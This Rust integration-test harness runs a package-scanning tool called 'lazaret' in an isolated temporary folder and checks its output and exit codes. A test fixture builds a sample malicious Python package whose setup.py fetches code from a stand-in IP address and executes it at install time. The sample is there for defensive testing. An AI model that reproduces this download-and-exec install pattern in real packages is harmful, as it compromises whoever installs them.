//! The program as a user meets it: the real binary, its output and its exit code.

mod commands;
mod db;
mod detonate;
mod diff;
mod index;
mod inspect;
mod network;
mod pipelines;
mod policy;
mod replay;
mod scan;
mod streams;

use std::{
    fs,
    io::Write,
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
};

use tempfile::TempDir;

/// A user with a home, a folder to work in, and no package client at all.
struct User {
    folder: TempDir,
}

/// What a run of the program left.
struct Ran {
    code: i32,
    out: String,
    talk: String,
}

impl User {
    fn new() -> Self {
        Self { folder: tempfile::tempdir().expect("a temporary folder") }
    }

    /// Puts a file into the user's folder.
    fn file(&self, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
        let path = self.folder.path().join(name);
        fs::create_dir_all(path.parent().expect("below the folder")).expect("a folder");
        fs::write(&path, bytes).expect("a written file");
        path
    }

    fn path(&self) -> &Path {
        self.folder.path()
    }

    fn command(&self, arguments: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_lazaret"));
        command
            .args(arguments)
            .current_dir(self.path())
            .env_clear()
            .env("HOME", self.path())
            .env("PATH", self.path().join("no-programs"))
            .env("LAZARET_CACHE_DIR", self.path().join("cache"));
        command
    }

    fn run(&self, arguments: &[&str]) -> Ran {
        self.run_with(arguments, "")
    }

    /// Runs the program with this text on stdin.
    fn run_with(&self, arguments: &[&str], stdin: &str) -> Ran {
        let mut child = self
            .command(arguments)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("the program starts");
        // A program that reads no stdin may have ended.
        let _ = child.stdin.take().expect("piped").write_all(stdin.as_bytes());
        child.wait_with_output().map(Ran::from).expect("the program ends")
    }
}

impl From<Output> for Ran {
    fn from(output: Output) -> Self {
        Self {
            code: output.status.code().expect("no signal"),
            out: String::from_utf8(output.stdout).expect("UTF-8"),
            talk: String::from_utf8(output.stderr).expect("UTF-8"),
        }
    }
}

impl Ran {
    /// Fails with the whole transcript unless the program ended so and said this.
    #[track_caller]
    fn ended(&self, code: i32, said: &[&str]) -> &Self {
        let missing: Vec<_> =
            said.iter().filter(|text| !self.out.contains(*text) && !self.talk.contains(*text)).collect();
        let Self { out, talk, .. } = self;
        assert!(
            self.code == code && missing.is_empty(),
            "exit code {}, wanted {code}; missing {missing:?}\n--- stdout\n{out}\n--- stderr\n{talk}",
            self.code
        );
        self
    }
}

/// A package that fetches code while it is installed and runs it.
fn malicious() -> Vec<u8> {
    let setup = b"from setuptools import setup\nimport requests as r\nexec(r.get(\"http://198.51.100.7/stage2\").text)\nsetup(name=\"evil\")\n";
    testkit::archive::tgz(&[("evil-1.0/setup.py", setup), ("evil-1.0/evil/__init__.py", b"")])
}

/// A package without anything to say against it.
fn clean() -> Vec<u8> {
    let manifest = br#"{"name": "plain", "version": "1.0.0", "main": "index.js"}"#;
    let code = b"module.exports = function add(a, b) {\n  return a + b;\n};\n";
    testkit::archive::tgz(&[("package/package.json", manifest), ("package/index.js", code)])
}
